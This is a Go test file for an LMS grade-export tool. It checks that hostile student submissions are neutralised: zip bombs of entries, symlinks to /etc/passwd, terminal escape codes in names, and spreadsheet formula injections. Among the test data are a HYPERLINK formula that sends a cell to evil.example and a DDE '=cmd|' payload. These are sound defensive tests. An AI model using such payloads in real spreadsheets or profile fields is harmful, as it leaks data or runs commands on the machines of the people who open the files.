package lms

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/cudalessons/lessons/internal/gradebook"
	"github.com/cudalessons/lessons/internal/roster"
)

// A zip of the class's folder made as zip -r makes it: each folder has
// an entry of its own ("submissions/", "submissions/alice/"). One
// student's 2,100 files must cost that student alone.
func TestAttackBudgetWithFolderEntries(t *testing.T) {
	es := []entry{{name: "submissions/"}}
	for _, who := range []string{"alice", "bob"} {
		es = append(es, entry{name: "submissions/" + who + "/"})
		es = append(es, entry{name: "submissions/" + who + "/async_pipeline.cu", data: "// " + who + "\n" + pipeDone})
	}
	es = append(es, entry{name: "submissions/mallory/"})
	for i := 0; i < 2100; i++ {
		es = append(es, entry{name: fmt.Sprintf("submissions/mallory/f%04d.txt", i)})
	}
	cl, out := arrangeQuiet(t, writeZip(t, es...), nil)
	for _, who := range []string{"alice", "bob"} {
		if readOr(t, filepath.Join(out, who, "day070/async_pipeline.cu")) == "" {
			t.Errorf("%s's file was not kept", who)
		}
	}
	for _, note := range cl.Notes {
		if note.Kind == Refused && !strings.Contains(note.File, "mallory") {
			t.Errorf("refused: %+v", note)
		}
	}
}

// The same class unpacked by hand into a folder that holds the class's
// folder (dir/submissions/alice/...): its students' budgets are theirs.
func TestAttackBudgetInAFolderOfTheClassFolder(t *testing.T) {
	dir := t.TempDir()
	write := func(rel, data string) {
		p := filepath.Join(dir, "submissions", rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, who := range []string{"alice", "bob"} {
		write(who+"/async_pipeline.cu", "// "+who+"\n"+pipeDone)
	}
	for i := 0; i < 2100; i++ {
		write(fmt.Sprintf("mallory/f%04d.txt", i), "")
	}
	files, notes, err := ReadFolder(dir, DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	kept := map[string]bool{}
	for _, f := range files {
		kept[f.Path] = true
	}
	for _, who := range []string{"alice", "bob"} {
		if !kept["submissions/"+who+"/async_pipeline.cu"] {
			t.Errorf("%s's file was not kept", who)
		}
	}
	for _, n := range notes {
		if n.Kind == Refused && !strings.Contains(n.File, "mallory") {
			t.Errorf("refused: %+v", n)
		}
	}
}

// A Moodle user edits their own full name (Moodle's default lets them):
// one that is a spreadsheet formula reaches the download's folder name,
// then the LMS imports export writes and the roster grade unpack writes,
// which an instructor opens in a spreadsheet before importing. No cell
// of them may start as a formula, and the roster reads back the name.
func TestAttackFormulaInAMoodleName(t *testing.T) {
	evil := `=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example?"&B2,"Grades")`
	src := writeZip(t,
		entry{name: evil + "_444_assignsubmission_file_/async_pipeline.cu", data: "// mallory\n" + pipeDone},
		entry{name: "John Smith_111_assignsubmission_file_/async_pipeline.cu", data: "// john\n" + pipeDone},
	)
	cl, _ := arrangeQuiet(t, src, nil)
	if len(cl.People) != 2 || cl.People[0].Name != evil {
		t.Fatalf("people: %+v", cl.People)
	}
	people := map[string]gradebook.Person{}
	var ids []string
	for _, p := range cl.People {
		people[p.ID] = p
		ids = append(ids, p.ID)
	}
	s := &gradebook.Sheet{Exercises: []gradebook.Exercise{{ID: "async-pipeline", Points: 10}}, Students: ids, Max: 10,
		Grades: map[string]map[string]*gradebook.Attempt{}}
	e := Export{Sheet: s, People: people, Columns: PerExercise}
	for _, system := range []string{"canvas", "moodle"} {
		var b bytes.Buffer
		if _, err := e.Write(system, &b); err != nil {
			t.Fatal(err)
		}
		noFormula(t, system, b.Bytes())
	}
	var b bytes.Buffer
	if err := roster.Write(&b, cl.People); err != nil {
		t.Fatal(err)
	}
	noFormula(t, "roster", b.Bytes())
	back, err := roster.Read(bytes.NewReader(b.Bytes()), "roster.csv")
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back, cl.People) {
		t.Errorf("the roster read back is not what was written:\n%+v\n%+v", back, cl.People)
	}
}

func noFormula(t *testing.T, what string, data []byte) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("%s: a cell starts as a formula: %q", what, c)
			}
		}
	}
}

// A student's zip of entries that are each refused (links, paths that
// climb out, devices) costs their budget as files do: 100,000 of them
// were each a line of the report, and none counted, so one student
// buried the class's notes (a classmate's stray file, a late flag) under
// their own.
func TestAttackRefusedEntriesCountAgainstTheStudent(t *testing.T) {
	var inner []entry
	for i := 0; i < 30000; i++ {
		inner = append(inner, entry{name: fmt.Sprintf("l%05d", i), data: "/etc/passwd", mode: fs.ModeSymlink | 0o777})
	}
	nested := zipOf(t, inner...)
	src := writeZip(t,
		entry{name: "hillmallory_1003_5003_day070.zip", data: string(nested), store: true},
		entry{name: "smithjohn_1001_5001_async_pipeline.cu", data: "// john\n" + pipeDone},
		entry{name: "smithjohn_1001_5001_notes.pdf", data: "%PDF"},
	)
	cl, out := arrangeQuiet(t, src, nil)
	if readOr(t, filepath.Join(out, "smithjohn", "day070/async_pipeline.cu")) == "" {
		t.Errorf("john's file was not kept")
	}
	mallory := 0
	for _, n := range cl.Notes {
		if strings.Contains(n.File, "hillmallory") {
			mallory++
		}
	}
	if mallory > 10 {
		t.Errorf("mallory's hand-in made %d notes of %d", mallory, len(cl.Notes))
	}
}

// A Moodle full name with an escape sequence (what the student calls
// themselves) names them in the roster grade unpack writes and in the
// LMS imports without it; their handle, which the LMS's feedback upload
// matches, stays as the LMS wrote it.
func TestAttackEscapeInAMoodleName(t *testing.T) {
	evil := "Eve\x1b]0;pwned\x07 Doe"
	src := writeZip(t, entry{name: evil + "_444_assignsubmission_file_/async_pipeline.cu", data: "// eve\n" + pipeDone})
	cl, _ := arrangeQuiet(t, src, nil)
	if len(cl.People) != 1 {
		t.Fatalf("people: %+v", cl.People)
	}
	p := cl.People[0]
	if strings.ContainsAny(p.Name, "\x1b\x07") || !strings.Contains(p.Name, "Doe") {
		t.Errorf("name %q", p.Name)
	}
	if p.Handle != evil+"_444" {
		t.Errorf("handle %q, want the LMS's own", p.Handle)
	}
}

// A Moodle student sets their own email (their profile), and
// =cmd|'/Ccalc'!A0@x.y is an address that roster.Read takes: it reached
// the Moodle import's "Email address" cell, and roster.csv's, as a
// formula (the ids beside it too, where a roster gave them one). Every
// cell is text, the roster reads back what it was, and Moodle is told
// the student is one it will not find.
func TestAttackFormulaInAnEmail(t *testing.T) {
	evil := `=cmd|'/Ccalc'!A0@x.y`
	in := "id,name,email,lms_id,section,sis_id,login\n" +
		"mallory,Mallory," + evil + ",+1,A,-2,@3\n" +
		"john,John,john@x.y,11,A,22,john\n"
	people, err := roster.Read(strings.NewReader(in), "roster.csv")
	if err != nil {
		t.Fatal(err)
	}
	if people[0].Email != evil {
		t.Fatalf("the roster read %+v", people[0])
	}
	byID := map[string]gradebook.Person{}
	for _, p := range people {
		byID[p.ID] = p
	}
	s := &gradebook.Sheet{Exercises: []gradebook.Exercise{{ID: "async-pipeline", Points: 10}}, Students: []string{"john", "mallory"}, Max: 10,
		Grades: map[string]map[string]*gradebook.Attempt{}}
	e := Export{Sheet: s, People: byID, Columns: PerExercise}
	for _, system := range []string{"canvas", "moodle"} {
		var b bytes.Buffer
		unknown, err := e.Write(system, &b)
		if err != nil {
			t.Fatal(err)
		}
		noFormula(t, system, b.Bytes())
		if system == "moodle" && !reflect.DeepEqual(unknown, []string{"mallory"}) {
			t.Errorf("moodle: unknown %q, want mallory (an email written as text matches no one)", unknown)
		}
	}
	var b bytes.Buffer
	if err := roster.Write(&b, people); err != nil {
		t.Fatal(err)
	}
	noFormula(t, "roster", b.Bytes())
	back, err := roster.Read(bytes.NewReader(b.Bytes()), "roster.csv")
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back, people) {
		t.Errorf("the roster read back is not what was written:\n%+v\n%+v", back, people)
	}
}
